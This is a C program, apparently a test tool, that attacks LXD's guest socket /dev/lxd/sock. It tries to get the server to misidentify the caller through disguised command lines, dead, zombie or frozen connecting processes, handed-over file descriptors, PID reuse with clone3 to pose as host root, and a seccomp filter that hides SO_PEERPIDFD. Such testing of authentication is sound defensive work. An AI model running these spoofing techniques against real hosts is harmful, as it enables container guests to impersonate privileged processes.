/*
 * attack WORD… : what a guest may do to be taken for another, as far as it needs system calls of its own. Each prints the
 * answer of /dev/lxd/sock, or of $DEVLXD_SOCKET, head and body, to "GET PATH".
 *
 *   ask PATH             plainly
 *   dressed NAME PATH    with NAME as command line and as program name; both are printed before, as the kernel has them
 *   by-child PATH        on a connection that a child made, which has gone
 *   by-zombie PATH       the same, but nobody has waited for the child
 *   by-thread PATH       by a thread; the first one has ended
 *   stopped PATH         on a connection whose maker stops itself as soon as it has asked
 *   dropped UID PATH     as UID, on a connection made before
 *   again PATH           twice on one connection, the second time when a line comes on standard input
 *   born-in DIR PATH     by a child that is cloned into the cgroup DIR
 *   thread-in DIR PATH   by a thread that has moved itself into the threaded cgroup DIR
 *   frozen DIR PATH      by a child that is frozen in the cgroup DIR as soon as it has asked
 *   give FILE            connects and hands the connection over to whoever comes to the socket FILE; stays until it has gone
 *   orphan FILE          the same, but a child connects, which has gone before; prints its pid
 *   take FILE PATH       asks on what "give" or "orphan" hands over
 *   peername             where the server's end is bound, as the kernel tells everybody
 *   as UID COMMAND…      runs it as that user
 *   old-kernel COMMAND…  runs it where SO_PEERPIDFD is not known, as before Linux 6.5
 *   reborn PID UID FILE… a process with that very pid and uid, in the cgroups whose cgroup.procs are FILE…: for root of the host
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/sched.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static char **arguments;

static void die(const char *what) {
    fprintf(stderr, "attack: %s: %s\n", what, strerror(errno));
    exit(1);
}

/* ok VALUE: the value of a system call that must not fail. */
static long must(long value, const char *what) {
    if (value < 0) die(what);
    return value;
}

static struct sockaddr_un address_of(const char *path) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    snprintf(address.sun_path, sizeof address.sun_path, "%s", path);
    return address;
}

static int new_socket(void) { return must(socket(AF_UNIX, SOCK_STREAM, 0), "socket"); }

static void connect_to(int fd, const char *path) {
    struct sockaddr_un address = address_of(path);
    must(connect(fd, (struct sockaddr *)&address, sizeof address), path);
}

static const char *guest_socket(void) {
    const char *path = getenv("DEVLXD_SOCKET");
    return path ? path : "/dev/lxd/sock";
}

static int guest(void) {
    int fd = new_socket();
    connect_to(fd, guest_socket());
    return fd;
}

/* --- asking ------------------------------------------------------------------------------------------------------- */

static void send_request(int fd, const char *path, const char *connection) {
    dprintf(fd, "GET %s HTTP/1.1\r\nHost: lxd\r\nConnection: %s\r\n\r\n", path, connection);
}

static void print_answer(int fd) {
    char bytes[65536];
    ssize_t length;
    while ((length = read(fd, bytes, sizeof bytes)) > 0) must(write(STDOUT_FILENO, bytes, length), "write");
    if (length < 0 && errno != ECONNRESET) die("read");
}

static void ask_on(int fd, const char *path) {
    signal(SIGPIPE, SIG_IGN);
    send_request(fd, path, "close");
    print_answer(fd);
}

static void again(const char *path) {
    int fd = guest();
    char bytes[65536];
    signal(SIGPIPE, SIG_IGN);
    send_request(fd, path, "keep-alive");
    must(read(fd, bytes, sizeof bytes), "read");
    printf("first: %.15s\n", bytes);
    fflush(stdout);
    must(read(STDIN_FILENO, bytes, sizeof bytes), "standard input");
    ask_on(fd, path);
    printf("the end\n");
}

/* --- processes that are not what they seem ------------------------------------------------------------------------- */

static void print_file(const char *path) {
    char text[4096];
    int fd = must(open(path, O_RDONLY), path);
    ssize_t length = must(read(fd, text, sizeof text - 1), path);
    close(fd);
    for (ssize_t at = 0; at < length; at++) putchar(text[at] ? text[at] : ' ');
    putchar('\n');
    fflush(stdout);
}

/* The arguments lie behind one another: writing over them is what changes /proc/PID/cmdline. */
static void dress_as(const char *name) {
    char *end = arguments[0];
    for (char **word = arguments; *word; word++) end = *word + strlen(*word) + 1;
    char *copy = strdup(name);
    memset(arguments[0], 0, end - arguments[0]);
    snprintf(arguments[0], end - arguments[0], "%s", copy);
    must(prctl(PR_SET_NAME, copy), "prctl");
    print_file("/proc/self/cmdline");
    print_file("/proc/self/comm");
}

/* The socket is the parent's, the connection the child's. Returns the child. */
static pid_t child_connects(int fd) {
    pid_t child = must(fork(), "fork");
    if (child == 0) {
        connect_to(fd, guest_socket());
        _exit(0);
    }
    return child;
}

static void await_exit(pid_t child, int options) {
    siginfo_t info;
    must(waitid(P_PID, child, &info, WEXITED | options), "waitid");
    if (info.si_status != 0) exit(1);
}

static int by_child(int options) {
    int fd = new_socket();
    await_exit(child_connects(fd), options);
    return fd;
}

static void *ask_in_thread(void *path) {
    /* Until the first thread is a zombie, its state in stat is another. */
    char stat[512] = "";
    while (!strstr(stat, ") Z ")) {
        int fd = must(open("/proc/self/stat", O_RDONLY), "stat");
        stat[must(read(fd, stat, sizeof stat - 1), "stat")] = 0;
        close(fd);
    }
    ask_on(guest(), path);
    exit(0);
}

static void by_thread(void *(*run)(void *), void *argument) {
    pthread_t thread;
    errno = pthread_create(&thread, NULL, run, argument);
    if (errno) die("pthread_create");
    pthread_exit(NULL);
}

static void stopped(const char *path) {
    int fd = new_socket();
    pid_t child = must(fork(), "fork");
    if (child == 0) {
        connect_to(fd, guest_socket());
        send_request(fd, path, "close");
        raise(SIGSTOP);
        _exit(0);
    }
    must(waitpid(child, NULL, WUNTRACED), "waitpid");
    print_answer(fd);
    kill(child, SIGKILL);
}

static void become(int id) {
    must(setgid(id), "setgid");
    must(setuid(id), "setuid");
}

static void dropped(int id, const char *path) {
    int fd = guest();
    become(id);
    ask_on(fd, path);
}

static void as(int id, char **command) {
    become(id);
    execvp(*command, command);
    die(*command);
}

/* --- cgroups ------------------------------------------------------------------------------------------------------- */

static void write_file(const char *directory, const char *file, const char *text) {
    char path[8192];
    snprintf(path, sizeof path, "%s%s%s", directory, *file ? "/" : "", file);
    int fd = must(open(path, O_WRONLY), path);
    must(write(fd, text, strlen(text)), path);
    close(fd);
}

static pid_t clone_with(struct clone_args clone) {
    clone.exit_signal = SIGCHLD;
    return must(syscall(SYS_clone3, &clone, sizeof clone), "clone3");
}

static void born_in(const char *cgroup, const char *path) {
    int directory = must(open(cgroup, O_RDONLY | O_DIRECTORY), cgroup);
    pid_t child = clone_with((struct clone_args){.flags = CLONE_INTO_CGROUP, .cgroup = directory});
    if (child == 0) {
        print_file("/proc/self/cgroup");
        ask_on(guest(), path);
        _exit(0);
    }
    await_exit(child, 0);
}

static const char *threaded;

static void *ask_in_threaded(void *path) {
    write_file(threaded, "cgroup.threads", "0");
    print_file("/proc/thread-self/cgroup");
    ask_on(guest(), path);
    exit(0);
}

static void thread_in(const char *cgroup, const char *path) {
    pthread_t thread;
    threaded = cgroup;
    errno = pthread_create(&thread, NULL, ask_in_threaded, (void *)path);
    if (errno) die("pthread_create");
    pthread_join(thread, NULL);
}

static void frozen(const char *cgroup, const char *path) {
    int fd = new_socket();
    int asked[2];
    must(pipe(asked), "pipe");
    pid_t child = must(fork(), "fork");
    if (child == 0) {
        write_file(cgroup, "cgroup.procs", "0");
        connect_to(fd, guest_socket());
        send_request(fd, path, "close");
        must(write(asked[1], "", 1), "pipe");
        pause();
    }
    char byte;
    must(read(asked[0], &byte, 1), "pipe");
    write_file(cgroup, "cgroup.freeze", "1");
    print_answer(fd);
    kill(child, SIGKILL);
    write_file(cgroup, "cgroup.freeze", "0");
}

/* --- connections that go from hand to hand --------------------------------------------------------------------------- */

union control {
    char bytes[CMSG_SPACE(sizeof(int))];
    struct cmsghdr aligned;
};

static struct msghdr message_of(struct iovec *byte, union control *control) {
    return (struct msghdr){
        .msg_iov = byte, .msg_iovlen = 1, .msg_control = control->bytes, .msg_controllen = sizeof control->bytes};
}

static void give(int connection, const char *path) {
    struct sockaddr_un address = address_of(path);
    int listener = new_socket();
    unlink(path);
    must(bind(listener, (struct sockaddr *)&address, sizeof address), path);
    must(listen(listener, 1), "listen");
    int taker = must(accept(listener, NULL, NULL), "accept");

    union control control = {0};
    struct iovec byte = {.iov_base = ".", .iov_len = 1};
    struct msghdr message = message_of(&byte, &control);
    struct cmsghdr *rights = CMSG_FIRSTHDR(&message);
    *rights = (struct cmsghdr){.cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS, .cmsg_len = CMSG_LEN(sizeof(int))};
    memcpy(CMSG_DATA(rights), &connection, sizeof connection);
    must(sendmsg(taker, &message, 0), "sendmsg");
    char end;
    must(read(taker, &end, 1), "read");
}

static int taken_from(const char *path) {
    int giver = new_socket();
    connect_to(giver, path);
    char text;
    union control control;
    struct iovec byte = {.iov_base = &text, .iov_len = 1};
    struct msghdr message = message_of(&byte, &control);
    must(recvmsg(giver, &message, 0), "recvmsg");
    struct cmsghdr *rights = CMSG_FIRSTHDR(&message);
    if (!rights) die("nothing was handed over");
    int connection;
    memcpy(&connection, CMSG_DATA(rights), sizeof connection);
    return connection;
}

static int orphan(void) {
    int fd = new_socket();
    pid_t child = child_connects(fd);
    await_exit(child, 0);
    printf("%d\n", child);
    fflush(stdout);
    return fd;
}

static void print_peername(void) {
    struct sockaddr_un address = {0};
    socklen_t length = sizeof address;
    must(getpeername(guest(), (struct sockaddr *)&address, &length), "getpeername");
    printf("%.*s\n", (int)(length - offsetof(struct sockaddr_un, sun_path)), address.sun_path);
}

static void reborn(pid_t pid, int uid, char **cgroups) {
    pid_t child = clone_with((struct clone_args){.set_tid = (uintptr_t)&pid, .set_tid_size = 1});
    if (child > 0) {
        await_exit(child, 0);
        return;
    }
    for (; *cgroups; cgroups++) write_file(*cgroups, "", "0");
    become(uid);
    printf("reborn %d\n", getpid());
    fflush(stdout);
    pause();
}

/* Of the arguments the lower halves: where the ints are, on machines that begin with them. */
static void old_kernel(char **command) {
    const int peerpidfd = 77;
    struct sock_filter rules[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_getsockopt, 0, 5),
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, args[1])),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SOL_SOCKET, 0, 3),
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, args[2])),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, peerpidfd, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | ENOPROTOOPT),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog program = {.len = sizeof rules / sizeof *rules, .filter = rules};
    must(prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0), "prctl");
    must(prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program), "seccomp");
    execvp(*command, command);
    die(*command);
}

/* --- words --------------------------------------------------------------------------------------------------------- */

static int is(const char *word, int words) {
    int count = 0;
    while (arguments[count]) count++;
    return strcmp(arguments[1], word) == 0 && count >= words + 2;
}

int main(int count, char **words) {
    arguments = words;
    if (count < 2) return 2;
    char *first = words[2];
    char *second = first ? words[3] : NULL;
    if (is("ask", 1)) ask_on(guest(), first);
    else if (is("dressed", 2)) { char *path = strdup(second); dress_as(first); ask_on(guest(), path); }
    else if (is("by-child", 1)) ask_on(by_child(0), first);
    else if (is("by-zombie", 1)) ask_on(by_child(WNOWAIT), first);
    else if (is("by-thread", 1)) by_thread(ask_in_thread, first);
    else if (is("stopped", 1)) stopped(first);
    else if (is("dropped", 2)) dropped(atoi(first), second);
    else if (is("again", 1)) again(first);
    else if (is("born-in", 2)) born_in(first, second);
    else if (is("thread-in", 2)) thread_in(first, second);
    else if (is("frozen", 2)) frozen(first, second);
    else if (is("give", 1)) give(guest(), first);
    else if (is("orphan", 1)) give(orphan(), first);
    else if (is("take", 2)) ask_on(taken_from(first), second);
    else if (is("peername", 0)) print_peername();
    else if (is("as", 2)) as(atoi(first), words + 3);
    else if (is("old-kernel", 1)) old_kernel(words + 2);
    else if (is("reborn", 3)) reborn(atoi(first), atoi(second), words + 4);
    else { fprintf(stderr, "attack: see the beginning of attack.c\n"); return 2; }
    return 0;
}
